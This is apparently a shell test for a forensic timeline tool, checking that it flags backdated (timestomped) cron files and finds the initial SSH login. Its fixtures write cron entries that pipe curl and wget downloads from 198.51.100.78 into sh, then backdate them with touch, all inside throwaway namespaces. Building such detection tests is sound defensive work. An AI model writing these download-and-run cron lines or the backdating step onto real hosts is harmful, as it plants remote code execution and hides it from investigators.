#!/bin/sh
# timeline-stomp.sh - timestomping on the live root (logs review 8), inside namespaces of
# the test's own: two cron downloaders (tmpfs over /var/spool and /etc/cron.d) set with
# touch -d "2019-05-01 12:00" to one identical mtime, an auth.log (tmpfs over /var/log)
# with the login two minutes ago. On the live host the ctime (when touch ran) places the
# burst, so the login is still the initial access and both files are named timestomped.
# Nothing of the machine is changed; nothing leaves the network namespace.
set -eu
MT=${MINETRACE:-build/minetrace}
fail() { echo "FAIL timeline-stomp: $*"; exit 1; }
MT=$(cd "$(dirname "$MT")" && pwd)/$(basename "$MT")
work=$(mktemp -d /run/mt-timeline-stomp.XXXXXX)
trap '[ -n "${KEEP:-}" ] || rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP
cp "$MT" "$work/minetrace"
MT=$work/minetrace

rc=0
unshare -n -p -f -m --mount-proc sh -eu -c '
	work=$1 mt=$2
	mount --make-rprivate /
	for d in /var/log /var/spool /etc/cron.d /tmp /var/tmp /dev/shm; do
		mkdir -p $d
		mount -t tmpfs tmpfs $d
	done
	mkdir -p /var/spool/cron/crontabs
	now=$(date +%s)
	login=$((now - 120))
	stamp=$(date -u -d @$login +%Y-%m-%dT%H:%M:%S.000000+00:00)
	printf "%s h sshd[4242]: Accepted password for root from 198.51.100.78 port 55555 ssh2\n" \
		"$stamp" >/var/log/auth.log
	printf "*/5 * * * * curl -fsSL http://198.51.100.78/x.sh | sh\n" >/var/spool/cron/crontabs/root
	printf "*/5 * * * * root wget -q -O- http://198.51.100.78/y.sh | sh\n" >/etc/cron.d/syncd
	touch -d "2019-05-01 12:00" /var/spool/cron/crontabs/root /etc/cron.d/syncd
	"$mt" timeline --sample 0 --format json >"$work/out.jsonl" 2>"$work/err" || echo $? >"$work/rc"
' sh "$work" "$MT" || rc=$?
[ $rc -eq 0 ] || fail "namespace run exited $rc"
[ "$(cat "$work/rc" 2>/dev/null || echo 0)" = 1 ] || fail "timeline exit $(cat "$work/rc" 2>/dev/null || echo 0), expected 1"
python3 - "$work/out.jsonl" <<'EOT' || fail "see above"
import json, sys
objs = [json.loads(l) for l in open(sys.argv[1])]
c = objs[-1]
assert c["type"] == "conclusion", "no conclusion"
ia = c["initial_access"]
assert ia and ia["source_ip"] == "198.51.100.78" and ia["user"] == "root", "access %r" % ia
st = {a["path"] for a in c["artifacts"] if a["timestomp_suspected"]}
assert st == {"/var/spool/cron/crontabs/root", "/etc/cron.d/syncd"}, c["artifacts"]
assert any("their ctime is used instead" in d for d in c["diagnostics"]), c["diagnostics"]
assert c["window"]["start"] == ia["time"], c["window"]
print("timeline-stomp: ok (timestomped cron files, ctime places the burst, login found)")
EOT
